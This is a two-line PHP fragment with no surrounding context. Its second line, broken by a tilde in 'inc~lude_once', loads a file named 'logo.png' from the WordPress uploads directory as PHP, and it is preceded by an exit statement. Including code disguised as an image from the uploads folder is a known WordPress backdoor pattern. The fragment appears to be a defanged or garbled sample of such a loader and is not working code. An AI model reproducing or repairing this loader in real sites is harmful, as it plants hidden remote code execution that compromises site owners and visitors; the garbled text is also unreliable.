<?php exit; ?>
<?php inc~lude_once 'wp-content/uploads/marker/logo.png';
